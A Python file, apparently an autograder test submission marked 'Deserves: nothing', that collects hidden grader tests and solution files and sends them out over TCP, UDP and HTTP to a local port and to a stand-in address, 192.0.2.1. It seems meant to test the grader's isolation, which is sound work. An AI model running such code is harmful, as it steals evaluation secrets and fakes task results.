"""Sends the hidden tests to another machine.

Deserves: nothing
"""

# %% prelude
import glob
import socket
import sys
import urllib.request

secret = b""
for place in [*sys.path, "/work/main", "../../.."]:
    for path in glob.glob(f"{place}/autograder/hidden/**/*.py", recursive=True) + glob.glob(f"{place}/solutions/*.py"):
        secret += open(path, "rb").read()
for address in (("127.0.0.1", 45871), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(secret or b"nothing found, but the network is open")
    except OSError as error:
        print(address, error)
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(secret[:1000], ("127.0.0.1", 45871))
    urllib.request.urlopen("http://127.0.0.1:45871/", data=secret, timeout=1)
except OSError as error:
    print(error)
